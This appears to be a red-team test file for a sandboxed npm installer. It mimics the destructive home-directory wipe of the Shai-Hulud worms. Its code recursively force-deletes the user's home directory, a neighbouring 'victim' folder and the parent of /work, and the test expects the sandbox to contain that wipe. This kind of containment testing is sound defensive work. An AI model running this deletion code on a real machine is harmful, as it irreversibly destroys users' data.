// RT-70: the "rm -rf ~/" fallback of Shai-Hulud 2.0 and Mini Shai-Hulud,
// plus a wipe of its neighbours in node_modules. Inside safe-install the
// home is the container's and the neighbours come back checked, so the run
// must fail with the project as it was.
const fs = require('fs');
const os = require('os');
const path = require('path');
for (const p of [os.homedir(), path.join(__dirname, '..', 'victim'), '/work/..']) {
  try { fs.rmSync(p, { recursive: true, force: true }); } catch (e) { console.error('wipe:', p, e.code); }
}
